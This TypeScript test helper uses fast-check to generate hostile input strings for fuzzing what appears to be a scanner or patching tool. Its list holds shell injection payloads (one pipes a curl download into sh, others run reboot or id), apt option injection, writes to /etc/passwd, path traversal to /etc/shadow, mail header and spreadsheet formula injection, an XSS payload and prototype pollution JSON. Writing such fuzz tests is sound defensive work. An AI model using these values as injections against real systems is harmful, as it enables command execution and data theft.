/** Strings and values that somebody who wants to do harm would put where a scanner puts its own. */
import fc from 'fast-check'

/** What a shell, a log, a spreadsheet, a page, a mail or a JSON reader would take for more than text. */
const attacks = [
  'foo; curl x|sh',
  '$(reboot)',
  '`id`',
  '&& id',
  '|| id',
  '| sh',
  '> /etc/passwd',
  '*',
  '-oAPT::Update::Pre-Invoke::=id',
  '--force',
  'a b=1',
  'x=1 y=2',
  "';id;'",
  '"$(id)"',
  '\\',
  '${IFS}',
  '%0a',
  '\n{"level":"ERROR"}',
  '\r\nBcc: x@example.com',
  '\u0000',
  '\u001b[31m',
  '\u202egnp.exe',
  '\u200b\ufeff',
  '\ud800',
  'аpt',
  '../../etc/shadow',
  '{{ssm:/secret}}',
  '{{ global:DATE }}',
  '=HYPERLINK("http://x")',
  '@SUM(1)',
  '<img src=x onerror=alert(1)>',
  '__proto__',
  'constructor',
  'toString',
  'N/A',
  '0:',
  '1e400',
  '-0',
  '9007199254740993',
  'NaN',
  '',
  ' ',
] as const

export const hostileText = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom<string>(...attacks) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.constantFrom('x', 'ä', '9', '\u0301').map((unit) => unit.repeat(5_000)) },
)

const deep = () => JSON.parse(`${'['.repeat(90)}${']'.repeat(90)}`)

const oddValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, true, [], {}, -1, 1.5, 2 ** 53, [[]], [null], { length: 3 }),
  fc.constant(undefined).map(deep),
  fc.constant(undefined).map(() => JSON.parse('{"__proto__":{"isPatchable":true},"constructor":{"prototype":1}}')),
  fc.jsonValue({ maxDepth: 1 }),
)

/** Mostly what `good` gives; now and then nothing, something hostile, the good text with something hostile in it, or another kind of value. */
export const mostly = (good: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 600, arbitrary: good },
    { weight: 3, arbitrary: fc.constant(undefined) },
    { weight: 3, arbitrary: hostileText },
    { weight: 3, arbitrary: fc.tuple(good, hostileText, fc.boolean()).map(spliced) },
    { weight: 1, arbitrary: oddValue },
  )

const spliced = ([good, hostile, isBehind]: [unknown, string, boolean]) =>
  typeof good !== 'string' ? hostile : isBehind ? good + hostile : hostile + good
